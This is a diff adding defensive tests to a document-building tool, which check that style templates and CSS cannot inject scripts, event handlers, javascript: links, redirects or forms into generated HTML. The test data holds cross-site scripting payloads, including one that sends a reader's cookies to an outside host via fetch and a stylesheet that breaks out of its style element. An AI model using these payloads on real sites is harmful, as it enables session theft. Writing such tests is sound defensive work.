@@ -97,6 +97,40 @@ def test_a_style_template_runs_no_code_and_its_errors_are_located(
     assert not (root / "build/paper.html").exists()
 
 
+@pytest.mark.parametrize(
+    ("markup", "found"),
+    [
+        ("<script>fetch('https://example.org/?' + document.cookie)</script>", "a <script> element"),
+        ('<img src="x.png" onerror="alert(1)">', "an event handler (onerror=) on <img>"),
+        ('<a href="javascript:alert(1)">x</a>', "a script URL in <a href=>"),
+        ('<meta http-equiv="refresh" content="0; url=https://example.org">', "a <meta http-equiv=refresh>"),
+        ('<form action="https://example.org"><button>Go</button></form>', "a <form> element"),
+    ],
+)
+def test_a_style_template_writes_no_active_markup(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], markup: str, found: str
+) -> None:
+    """The sandbox stops a template running Python; this stops it writing what a reader's browser would run."""
+    template = '{% extends "default/paper.html.j2" %}\n{% block byline %}\n' + markup + "\n{% endblock %}\n"
+    root = paper(tmp_path, **house_style(template))
+    assert main(["html", "--project", str(root), "--style", "house", "--quiet"]) == 1
+    assert capsys.readouterr().err == (
+        f"paperbuild: error: style 'house' (styles/house): its page holds {found}; a style's template and CSS may "
+        "not add scripts, frames, forms, event handlers or redirects\n"
+    )
+    assert not (root / "build/paper.html").exists()
+
+
+def test_a_stylesheet_cannot_close_its_style_element_to_add_a_script(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    files = house_style('{% extends "default/paper.html.j2" %}\n')
+    files["styles/house/paper.css"] = "p { color: red; }\n</style><script>alert(1)</script><style>\n"
+    root = paper(tmp_path, **files)
+    assert main(["html", "--project", str(root), "--style", "house", "--quiet"]) == 1
+    assert "its page holds a <script> element" in capsys.readouterr().err
+
+
 # ----------------------------------------------------------------------------------------- raw HTML and OpenXML
 
 
